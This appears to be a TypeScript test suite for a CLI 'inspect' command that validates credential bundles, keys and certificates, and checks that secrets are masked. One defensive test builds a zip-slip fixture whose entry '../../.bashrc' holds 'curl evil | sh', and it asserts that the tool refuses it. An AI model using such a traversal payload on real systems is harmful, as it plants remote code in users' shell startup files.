import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main } from '../../../src/cli/main';
import type { CliIo } from '../../../src/cli/commands';
import { generateCertificate, generateCredentialPair, makeConfigZip, makeWorkspaceJson, makeZip } from '../../support/credentials-fixtures';

const DAY = 24 * 60 * 60 * 1000;

async function withDir(files: Record<string, string | Buffer>): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'aio-inspect-'));
  for (const [name, data] of Object.entries(files)) await writeFile(join(dir, name), data);
  return dir;
}

async function run(args: string[], cwd: string, env: NodeJS.ProcessEnv = {}): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const io: CliIo = { out: (t) => void (out += t), err: (t) => void (err += t), env, cwd };
  const code = await main(['inspect', ...args], io);
  return { code, out, err };
}

test('inspect: config.zip + workspace JSON → importable, details printed, secrets masked', async (t) => {
  const pair = await generateCredentialPair({}, { subject: 'CN=journey-ops' });
  const dir = await withDir({ 'config.zip': makeConfigZip(pair), 'workspace.json': JSON.stringify(makeWorkspaceJson()) });
  t.after(() => rm(dir, { recursive: true, force: true }));
  const { code, out } = await run(['config.zip', 'workspace.json'], dir);
  assert.equal(code, 0, out);
  assert.match(out, /RSA 2048-bit private key, PKCS#8/);
  assert.match(out, /certificate subject: CN=journey-ops/);
  assert.match(out, /certificate SHA-256: ([0-9A-F]{2}:){31}[0-9A-F]{2}/);
  assert.match(out, /key matches certificate: yes/);
  assert.match(out, /IMS org: 0A1B2C3D4E5F60718293A4B5@AdobeOrg/);
  assert.match(out, /client secret: +\*\*\* \(24 characters\)/);
  assert.match(out, /Result: importable/);
  assert.ok(!out.includes('p8e-FAKE-jwt-secret-0001'));
  assert.ok(!out.includes('p8e-FAKE-s2s-secret-0002'));
  assert.ok(!out.includes(pair.key.privateKeyPem.split('\n')[1]!));

  const json = await run(['config.zip', 'workspace.json', '--json'], dir);
  assert.equal(json.code, 0);
  const parsed = JSON.parse(json.out) as { importable: boolean; key: { bits: number }; keyMatchesCertificate: boolean; credential: string };
  assert.equal(parsed.importable, true);
  assert.equal(parsed.key.bits, 2048);
  assert.equal(parsed.credential, 'JWT Service Account');
  assert.ok(!json.out.includes('p8e-FAKE'));
});

test('inspect: refused inputs exit 2 with the reason in plain words', async (t) => {
  const pair = await generateCredentialPair();
  const expired = await generateCertificate(pair.key, { notBefore: new Date(Date.now() - 400 * DAY), notAfter: new Date(Date.now() - 2 * DAY) });
  const dir = await withDir({
    'evil.zip': makeZip([{ name: '../../.bashrc', data: 'curl evil | sh' }]),
    'old.zip': makeConfigZip({ key: pair.key, cert: expired }),
    'notes.txt': 'hello',
  });
  t.after(() => rm(dir, { recursive: true, force: true }));
  const evil = await run(['evil.zip'], dir);
  assert.equal(evil.code, 2);
  assert.match(evil.out, /refused: evil\.zip contains an entry that climbs out of its folder/);
  const old = await run(['old.zip'], dir);
  assert.equal(old.code, 2);
  assert.match(old.out, /expired on \d{4}-\d{2}-\d{2}/);
  assert.equal((await run(['notes.txt'], dir)).code, 2);
  const missing = await run(['nope.zip'], dir);
  assert.equal(missing.code, 2);
  assert.match(missing.err, /cannot read nope\.zip: there is no such file\. Check the path\./);
  assert.equal((await run([], dir)).code, 2);
});

test('inspect: encrypted key needs --passphrase-env; wrong passphrase is named as such', async (t) => {
  const pair = await generateCredentialPair({ format: 'encrypted-pkcs1', passphrase: 's3cret-pass' });
  const dir = await withDir({ 'private.key': pair.key.privateKeyPem, 'certificate_pub.crt': pair.cert.pem });
  t.after(() => rm(dir, { recursive: true, force: true }));
  const none = await run(['private.key', 'certificate_pub.crt'], dir);
  assert.equal(none.code, 2);
  assert.match(none.out, /a passphrase is needed \(pass --passphrase-env VAR\)/);
  const wrong = await run(['private.key', 'certificate_pub.crt', '--passphrase-env', 'PW'], dir, { PW: 'nope' });
  assert.equal(wrong.code, 2);
  assert.match(wrong.out, /wrong passphrase/);
  const right = await run(['private.key', 'certificate_pub.crt', '--passphrase-env', 'PW'], dir, { PW: 's3cret-pass' });
  assert.equal(right.code, 0, right.out);
  assert.match(right.out, /encrypted PKCS#1/);
  assert.ok(!right.out.includes('s3cret-pass'));
  const unset = await run(['private.key', '--passphrase-env', 'NOPE'], dir);
  assert.equal(unset.code, 2);
  assert.match(unset.err, /NOPE is not set/);
});

test('inspect: certificate expiring soon is importable with a warning naming the date', async (t) => {
  const pair = await generateCredentialPair({}, { notAfter: new Date(Date.now() + 5 * DAY) });
  const dir = await withDir({ 'config.zip': makeConfigZip(pair, { folder: 'cfg', macNoise: true }) });
  t.after(() => rm(dir, { recursive: true, force: true }));
  const { code, out } = await run(['config.zip'], dir);
  assert.equal(code, 0);
  assert.match(out, /warning: .*expires on \d{4}-\d{2}-\d{2} \(in \d days?\)/);
  assert.match(out, /ignored 3 macOS entries/);
});
